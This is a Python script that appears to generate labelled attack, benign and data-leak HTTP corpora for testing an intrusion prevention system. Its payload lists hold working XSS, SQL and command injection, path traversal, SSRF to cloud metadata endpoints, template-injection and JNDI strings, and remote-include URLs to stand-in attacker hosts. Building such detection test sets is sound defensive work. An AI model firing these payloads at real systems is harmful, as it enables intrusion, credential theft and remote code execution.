    "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "<IMG SRC=\"jav\tascript:alert('XSS');\">", "<video><source onerror=\"alert(1)\">",
    "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">", "<marquee onstart=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x>",
    "<style>@import 'http://203.0.113.9/x.css';</style>", "<div style=\"background:url(javascript:alert(1))\">", "<form action=javascript:alert(1)><input type=submit>",
    "<base href=\"javascript:alert(1)//\">", "<embed src=javascript:alert(1)>", "<x onclick=alert(1)>click", "\"><img src=x:x onerror=eval(atob('YWxlcnQoMSk='))>",
]
CMDI_SEPS_C = [";", "|", "||", "&&", "&", "%0a", "\n", "$(%s)", "`%s`", ";%s;", "| %s #", "\r\n"]
TRAV_PREFIX_C = ["../../../", "../../../../../../", "..%2f..%2f..%2f", "%2e%2e/%2e%2e/%2e%2e/", "..\\..\\..\\", "....//....//....//",
                 "%252e%252e%252f%252e%252e%252f", "..%c0%af..%c0%af..%c0%af", "/..%2f..%2f..%2f", "..%5c..%5c..%5c",
                 "%2e%2e%5c%2e%2e%5c", "..;/..;/..;/", "/var/www/../../../", "file/../../../../"]
RFI_C = ["http://203.0.113.77/shell.txt?", "https://paste.attacker.test/raw/abc.php", "ftp://198.51.100.4/pub/inc.txt",
         "http://evil.test/x.jpg%00", "//203.0.113.5/share/c.php", "hTtP://evil.test/r.txt??", "http://user:pw@evil.test/c99.txt",
         "https://evil.test:8443/sh.php?cmd=id", "http://198.51.100.9/", "\\\\203.0.113.5\\share\\x.php"]
SSRF_C = ["http://127.0.0.1:8080/actuator/env", "http://localhost/server-status", "http://[::]:22/", "http://0/", "http://127.0.0.1.nip.io/",
          "http://169.254.169.254/latest/user-data", "http://0251.0376.0251.0376/", "http://0xa9fea9fe/", "http://2852039166/latest/meta-data/",
          "gopher://localhost:25/_HELO", "dict://localhost:6379/info", "file:///proc/self/environ", "http://internal.corp.local/admin",
          "http://10.0.0.1:2379/v2/keys", "https://172.31.255.1/", "http://[fd00::1]/", "http://metadata.google.internal/computeMetadata/v1/instance/",
          "http://169.254.169.254/metadata/instance?api-version=2021-02-01", "http://127.127.127.127/", "ldap://localhost:389/"]
SSTI_C = ["{{7*'7'}}", "{{ config.items() }}", "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
          "${7*7}", "#{7*7}", "<%= system('id') %>", "{php}echo `id`;{/php}", "{{request|attr('application')}}", "${T(java.lang.Runtime).getRuntime().exec('id')}",
          "*{T(java.lang.Runtime).getRuntime().exec('id')}", "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id')}}",
          "${jndi:ldap://203.0.113.5/a}", "${${lower:jndi}:${lower:rmi}://x.test/a}", "${${::-j}ndi:dns://x.test/a}", "${jndi:${lower:l}${lower:d}a${lower:p}://x.test/}",
          "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "@{7*7}", "[[${7*7}]]", "{{=7*7}}", "${{7*7}}", "#set($e=\"e\")$e.getClass()"]


def crs_lines(name):
    return [l.strip() for l in lines_of(CRS + "/" + name) if l.strip()]


def attack_corpus_new(seed):
    rnd = random.Random(seed)
    cats = {}
    pos_std = ["query", "query", "form", "json", "cookie"]
    sq = [(p, True) for p in lines_of(WFUZZ + "/vulns/sql_inj.txt")] + [(p, False) for p in SQLI_C] * 3
    cats["sqli"] = [place(p, w, rnd, pos_std + ["header"]) for p, w in sq]
    xs = [(p, True) for p in lines_of(WFUZZ + "/Injections/All_attack.txt")
          if re.search(r"(?i)<\s*[a-z!/?]|javascript|script", p)] + [(p, False) for p in XSS_C] * 2
    cats["xss"] = [place(p, w, rnd, pos_std) for p, w in xs]
    cm = []
    unix = [c for c in crs_lines("unix-shell.data") if not c.startswith("$")]
    ps = crs_lines("windows-powershell-commands.data")
    for _ in range(300):
        if rnd.random() < 0.65:
            c = "/" + rnd.choice(unix) + rnd.choice(["", " -a", " /etc/hosts", " 203.0.113.9", " -la /tmp"])
        else:
            c = rnd.choice(["powershell ", "powershell.exe -c ", "cmd /c powershell "]) + rnd.choice(ps)
        sep = rnd.choice(CMDI_SEPS_C)
        v = rnd.choice(["127.0.0.1", "x", "1", ""])
        cm.append((v + (sep % c if "%s" in sep else sep + c), False))
    cats["cmdi"] = [place(p, w, rnd, pos_std) for p, w in cm]
    lfi = crs_lines("lfi-os-files.data")
    tr = []
    for f in rnd.sample(lfi, 250):
        pre = rnd.choice(TRAV_PREFIX_C)
        tr.append((pre + f.lstrip("/").replace("/", "\\" if "\\" in pre else "/"), True))
    cats["traversal"] = [place(p, w, rnd, ["query", "query", "form", "json", "cookie", "path"]) for p, w in tr]
    cats["rfi"] = [place(rnd.choice(RFI_C), False, rnd, ["query", "query", "form", "json"]) for _ in range(150)]
    cats["ssrf"] = [place(rnd.choice(SSRF_C), False, rnd, ["query", "query", "form", "json"]) for _ in range(200)]
    cats["ssti"] = [place(rnd.choice(SSTI_C), False, rnd, pos_std + ["header"]) for _ in range(200)]
    uas = crs_lines("scanners-user-agents.data")
    cats["scanner"] = [request("GET", rnd.choice(["/", "/login", "/index.php?id=1", "/wp-login.php"]), rnd.choice(HOSTS),
                               rnd.choice(["%s", "Mozilla/5.0 (compatible; %s)", "%s/1.0"]) % u) for u in uas]
    return cats


PHRASES_C = ["Where's the union meeting tonight?", "I can't select more than 3 items", "Drop me a line at the office",
             "Best way to 'order by' date in Excel?", "Tom & Jerry's \"greatest\" hits", "1 or 2 tickets please",
             "Is it 5' 10\" or 5' 11\"?", "and/or clause in contracts", "script for the school play (draft 2)",
             "How do I exec a cron job daily?", "Rock 'n' roll", "Ben & Jerry's", "C:/Users/me/Documents is full",
             "The year 1999: a review", "What does 1=1 mean in logic?", "sleep(8 hours) for kids", "ping me when ready",
             "x < y and y > z", "Q&A: what's new in v2.3?", "50/50 chance; we'll see"]


def benign_request_c(rnd):
    host = rnd.choice(["www.example.org", "shop.example.com", "docs.example.net"])
    ua = rnd.choice(UAS)
    hdrs = ["Cookie: sid=%s; lang=en" % base64.urlsafe_b64encode(rnd.randbytes(15)).decode(),
            "Accept-Language: de-DE,de;q=0.8,en;q=0.5", "Referer: https://%s/%s" % (host, rnd.choice(["", "docs/", "cart?step=2"]))]
    k = rnd.random()
    if k < 0.25:  # GraphQL
        q = rnd.choice(["query { user(id: %d) { name email } }", "query Posts { posts(first: %d) { edges { node { title } } } }",
                        "mutation { addComment(postId: %d, text: \"Nice one, O'Hara!\") { id } }"]) % rnd.randint(1, 500)
        return request("POST", "/graphql", host, ua, hdrs, json.dumps({"query": q, "variables": {}}), "application/json")
    if k < 0.45:  # search with prose
        params = {"q": rnd.choice(PHRASES_C), "page": str(rnd.randint(1, 9))}
        return request("GET", rnd.choice(["/search", "/kb/search", "/forum"]) + "?" + urllib.parse.urlencode(params), host, ua, hdrs)
    if k < 0.6:  # markdown / HTML comment
        body = urllib.parse.urlencode({"title": rnd.choice(PHRASES_C), "body": rnd.choice([
            "Use `SELECT name FROM t WHERE id = ?` with bound parameters, never string concatenation.",
            "<p>Thanks! <em>Really</em> helpful.</p><br><a href=\"https://www.debian.org/\">Debian</a>",
            "Run `ls -la` then `cat notes.txt` to check.", "1. Open the menu\n2. Select *Export*\n3. Done",
            "Price: 10 < 20; discount & tax included", "See ../docs/setup.md in the repo"])})
        return request("POST", "/posts/new", host, ua, hdrs, body, "application/x-www-form-urlencoded")
    if k < 0.75:  # JSON API
        doc = {"name": rnd.choice(NAMES), "note": rnd.choice(PHRASES_C), "homepage": rnd.choice(SITES),
               "items": [{"sku": "A-%d" % rnd.randint(100, 999), "qty": rnd.randint(1, 5)}], "coupon": rnd.choice(["", "SPRING-10", "5OFF"])}
        return request("POST", "/api/v2/orders", host, ua, hdrs + ["X-Request-ID: %s" % rnd.randbytes(8).hex()], json.dumps(doc), "application/json")
    if k < 0.85:  # paths that normalise inside the docroot
        return request("GET", rnd.choice(["/docs/v2/../v3/index.html", "/img/./icons/../logo.svg", "/a/b/c/../../d.css",
                                          "/files/report%202024.pdf", "/shop/items/12/../13", "/en/faq?topic=billing&lang=en-US"]), host, ua, hdrs)
    # upload
    bnd = "----b%d" % rnd.randint(10 ** 6, 10 ** 7)
    data = rnd.choice(["select,union,drop\n1,2,3\n", "#!/bin/sh\necho hello\n", "<html><body><b>hi</b></body></html>\n", "O'Reilly; Smith & Co.\n"])
    body = ("--%s\r\nContent-Disposition: form-data; name=\"file\"; filename=\"up.txt\"\r\nContent-Type: text/plain\r\n\r\n%s\r\n--%s--\r\n"
            % (bnd, data, bnd))
    return request("POST", "/upload", host, ua, hdrs, body, "multipart/form-data; boundary=" + bnd)


# ---------------------------------------------------------------- egress corpora

def response(body, ctype="text/html; charset=utf-8", status="200 OK"):
    b = body.encode("utf-8")
    return ("HTTP/1.1 %s\r\nServer: nginx\r\nContent-Type: %s\r\nContent-Length: %d\r\n\r\n"
            % (status, ctype, len(b))).encode() + b


def egress_corpus(seed, held):
    rnd = random.Random(seed)
    R = lambda n, al="ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789./": "".join(rnd.choice(al) for _ in range(n))
    cats = {k: [] for k in ["passwd", "shadow", "privkey", "hash", "cloudkey", "stacktrace", "sqlerror"]}
    users = ["root:x:0:0:root:/root:/bin/bash", "daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin",
             "bin:x:2:2:bin:/bin:/usr/sbin/nologin", "www-data:x:33:33:www-data:/var/www:/usr/sbin/nologin",
             "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin", "alice:x:1000:1000:Alice,,,:/home/alice:/bin/bash"]
    for _ in range(60):
        lines = users[:rnd.randint(2, 6)] if not held else rnd.sample(users, rnd.randint(1, 4))
        pre = rnd.choice(["", "<html><body><pre>", "{\"content\": \"", "Warning: include(): "])
        cats["passwd"].append(response(pre + "\n".join(lines) + "\n", rnd.choice(["text/plain", "text/html"])))
        algo = rnd.choice(["$6$", "$5$", "$1$", "$y$j9T$", "$2y$10$"])
        sh = "\n".join("%s:%s%s$%s:19%03d:0:99999:7:::" % (u, algo, R(8), R(43), rnd.randint(100, 999))
                       for u in rnd.sample(["root", "alice", "bob", "admin", "deploy"], rnd.randint(1, 3)))
        if held:
            sh = "daemon:*:19000:0:99999:7:::\n" + sh
        cats["shadow"].append(response(sh + "\n", "text/plain"))
        kind = rnd.choice(["RSA PRIVATE KEY", "PRIVATE KEY", "EC PRIVATE KEY", "OPENSSH PRIVATE KEY",
                           "ENCRYPTED PRIVATE KEY", "DSA PRIVATE KEY"])
        pem = "-----BEGIN %s-----\n%s\n-----END %s-----\n" % (kind, "\n".join(R(64, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/") for _ in range(rnd.randint(3, 12))), kind)
        cats["privkey"].append(response(rnd.choice(["", "config dump:\n", "<pre>"]) + pem, rnd.choice(["text/plain", "application/x-pem-file", "text/html"])))
        h = rnd.choice(["$1$%s$%s" % (R(8), R(22)), "$5$%s$%s" % (R(16), R(43)), "$6$%s$%s" % (R(16), R(86)),
                        "$2y$10$%s" % R(53), "$2b$12$%s" % R(53), "$argon2id$v=19$m=65536,t=3,p=4$%s$%s" % (R(22), R(43)),
                        "$argon2i$v=19$m=4096,t=3,p=1$%s$%s" % (R(22), R(43))])
        cats["hash"].append(response(json.dumps({"id": rnd.randint(1, 999), "user": "alice", "password_hash" if not held else "pw": h}),
                                     "application/json"))
        key = rnd.choice(["AKIA" + R(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"), "ASIA" + R(16, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"),
                          "aws_secret_access_key = " + R(40, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"),
                          "AIza" + R(35, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"),
                          '"type": "service_account", "private_key_id": "%s"' % R(40, "0123456789abcdef"),
                          "DefaultEndpointsProtocol=https;AccountName=store1;AccountKey=%s==;EndpointSuffix=core.windows.net" % R(86, "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/")])
        cats["cloudkey"].append(response("<pre>%s\n%s</pre>" % (rnd.choice(["# settings", "env:", "debug"]), key)))
        st = rnd.choice([
            'Traceback (most recent call last):\n  File "/app/views.py", line 42, in get\n    obj = Model.objects.get(pk=pk)\nValueError: invalid literal for int() with base 10',
            'java.lang.NullPointerException\n\tat com.example.web.UserController.show(UserController.java:57)\n\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:897)',
            '<b>Fatal error</b>:  Uncaught Exception: boom in /var/www/html/index.php:12\nStack trace:\n#0 {main}\n  thrown in <b>/var/www/html/index.php</b> on line <b>12</b>',
            '<b>Warning</b>:  include(pages/x.php): failed to open stream: No such file or directory in <b>/var/www/html/index.php</b> on line <b>8</b>',
            "TypeError: Cannot read properties of undefined (reading 'id')\n    at getUser (/srv/app/routes/user.js:14:22)\n    at Layer.handle [as handle_request] (/srv/app/node_modules/express/lib/router/layer.js:95:5)",
            'Exception in thread "main" java.lang.IllegalStateException: x\n\tat Main.main(Main.java:5)',
            '[ArgumentException: bad]\n   System.Web.UI.Page.ProcessRequest() +123\n   at System.Web.HttpApplication.ExecuteStep(IExecutionStep step, Boolean& completedSynchronously)',
        ])
        cats["stacktrace"].append(response("<html><body><h1>500</h1><pre>%s</pre></body></html>" % st, status="500 Internal Server Error"))
        se = rnd.choice([
            "You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version for the right syntax to use near ''1''' at line 1",
            "Warning: mysqli_fetch_array() expects parameter 1 to be mysqli_result, boolean given in /var/www/a.php",
            'ERROR:  syntax error at or near "\'"\nLINE 1: SELECT * FROM users WHERE id=\'1\'\'',
            "pg_query(): Query failed: ERROR:  unterminated quoted string at or near",
            "SQLite3::query(): Unable to prepare statement: 1, near \"'\": syntax error",
            'sqlite3.OperationalError: unrecognized token: "\'1\'\'"',
            "Microsoft OLE DB Provider for SQL Server error '80040e14' Unclosed quotation mark after the character string ''.",
            "[Microsoft][ODBC SQL Server Driver][SQL Server]Incorrect syntax near 'x'.",
            "ORA-01756: quoted string not properly terminated", "ORA-00933: SQL command not properly ended",
            "com.mysql.jdbc.exceptions.jdbc4.MySQLSyntaxErrorException: Unknown column 'x' in 'where clause'",
            "SQLSTATE[42000]: Syntax error or access violation: 1064",
        ])
        cats["sqlerror"].append(response("<html><body><p>Error: %s</p></body></html>" % se))
    benign = []
    docs = ["<h1>Reset your password</h1><p>Enter your email and we will send a password reset link.</p>",
            "<p>The root user has uid 0. Never log in as root; use sudo instead.</p>",
            "<h2>FAQ</h2><p>Passwords are stored as salted hashes (argon2id or bcrypt).</p>",
            "<p>Edit /etc/passwd with vipw only. The file lists accounts, one per line.</p>",
            "<p>Generate a key with ssh-keygen; keep your private key secret and never paste it.</p>",
            "<p>Set AWS_ACCESS_KEY_ID in your environment; see the AWS docs.</p>",
            "<p>Our SQL tutorial: SELECT name FROM users WHERE id = 1;</p>",
            "<p>An exception was handled. Please try again later.</p>",
            "<p>Price: $5.00, $10.50 for members; total $1$ deal!</p>",
            "<p>Java tutorial: how to read a stack trace at a glance.</p>"]
    for _ in range(400):
        k = rnd.random()
        if k < 0.4:
            body = "<!doctype html><html><head><title>%s</title></head><body>%s<p>%s</p></body></html>" % (
                rnd.choice(PHRASES_A), rnd.choice(docs), rnd.choice(COMMENTS))
            benign.append(response(body))
        elif k < 0.7:
            benign.append(response(json.dumps({"id": rnd.randint(1, 10 ** 6), "name": rnd.choice(NAMES),
                                                "token": base64.b64encode(rnd.randbytes(24)).decode(),
                                                "sha256": rnd.randbytes(32).hex(), "text": rnd.choice(PHRASES_B)}),
                                    "application/json"))
        else:
            benign.append(response("body{margin:0}\n/* %s */\n" % rnd.choice(PHRASES_A) + R(200), "text/css"))
    return cats, benign


def write(path, data):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def main():
    if len(sys.argv) != 2:
        sys.exit("usage: ips_corpus.py OUTDIR")
    out = sys.argv[1]
    for split, seed in (("dev", 1001), ("held", 2002)):
        for cat, reqs in attack_corpus(seed, split == "held").items():
            for i, r in enumerate(reqs):
                write("%s/attack/%s/%s/%05d.http" % (out, split, cat, i), r)
        rnd = random.Random(seed + 7)
        for i in range(4000 if split == "dev" else 3000):
            write("%s/benign/%s/%05d.http" % (out, split, i), benign_request(rnd, split == "held"))
        cats, ben = egress_corpus(seed + 13, split == "held")
        for cat, rs in cats.items():
            for i, r in enumerate(rs):
                write("%s/egress/%s/%s/%05d.http" % (out, split, cat, i), r)
        for i, r in enumerate(ben):
            write("%s/egress_benign/%s/%05d.http" % (out, split, i), r)
    if os.path.isdir(CRS):
        for cat, reqs in attack_corpus_new(3003).items():
            for i, r in enumerate(reqs):
                write("%s/attack/new/%s/%05d.http" % (out, "" + cat, i), r)
        rnd = random.Random(3010)
        for i in range(2000):
            write("%s/benign/new/%05d.http" % (out, i), benign_request_c(rnd))


if __name__ == "__main__":
    main()
